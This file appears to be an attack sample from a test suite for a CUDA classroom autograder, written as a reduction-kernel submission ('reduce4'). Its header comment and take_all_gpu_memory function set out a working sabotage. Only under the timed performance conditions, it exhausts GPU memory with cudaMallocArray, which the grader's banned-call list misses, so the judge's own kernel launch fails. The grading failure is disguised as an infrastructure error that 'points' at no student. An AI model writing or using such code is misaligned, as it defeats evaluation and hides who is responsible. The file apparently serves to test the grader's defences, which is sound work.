// ATTACK 06 (classroom/tests/attacks/README.md): make the judge's own CUDA call fail.
//
// The work is the previous stage's (reduce3): correct, race-free, too slow; 75 deserved.
//
// In the performance step, the launcher's first call at the timed size (int, n = 2^26)
// launches its kernels and then takes every byte of GPU memory that is left, with
// cudaMallocArray: not on the source check's list (which forbids cudaMalloc, cudaMalloc3D,
// cudaMallocPitch, cudaMallocAsync, cudaMallocManaged, cudaMallocHost ... by exact name)
// and allowed by the compiled check's "cuda*". The arrays live as long as the worker.
//
// judge.cu's perf() launches count_changed_inputs for the first time right after the
// submission's first request returns (the instructor's workers never run it, so the
// calibration never loaded it). With CUDA's default lazy loading (CUDA_MODULE_LOADING=LAZY
// since 12.2) a kernel's code is loaded into GPU memory at its first launch; with no
// memory left the launch fails, CHECK(cudaGetLastError()) throws CouldNotGrade, the judge
// prints "COULD_NOT_GRADE ... out of memory" and exits 3, and the grader reports "the
// grader could not grade" (exit 3; on Gradescope no results.json). Nothing in the report
// points at the student: it reads as the grading machine's failure.
//
// If the driver finds room for that code after all, nothing happens and the grade is
// the deserved 75.

#include <cstdint>
#include "stage.h"

namespace {

// reduce3's tree: a barrier at every step, down to one value.
template <typename T>
__device__ T full_tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 0; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();
    }
    return sum;
}

// Every byte of GPU memory that cudaMallocArray can still get, in ever smaller arrays of
// 16-byte texels (never freed: they go with the process).
void take_all_gpu_memory() {
    const cudaChannelFormatDesc texel = cudaCreateChannelDesc(32, 32, 32, 32, cudaChannelFormatKindSigned);
    for (std::size_t width : {std::size_t{16384}, std::size_t{1024}, std::size_t{64}}) {
        for (std::size_t rows : {65536, 16384, 4096, 1024, 256, 64, 16, 4, 1}) {
            for (int k = 0; k < 100000; ++k) {
                cudaArray_t array = nullptr;
                if (cudaMallocArray(&array, &texel, width, rows) != cudaSuccess) {
                    cudaGetLastError();
                    break;
                }
            }
        }
    }
}

}  // namespace

template <typename T>
__global__ void unroll_last_warp(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = full_tree_sum(shared, sum, tid, blockDim.x);
    if (tid == 0) block_sums[blockIdx.x] = sum;
}

constexpr unsigned kInputsPerThread = 2;

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    const unsigned block = config.block;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   unroll_last_warp<T><<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
    static bool taken = false;
    if (std::is_same_v<T, int> && n == (std::size_t{1} << 26) && !taken) {  // the performance step's workers only
        taken = true;
        take_all_gpu_memory();
    }
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
};
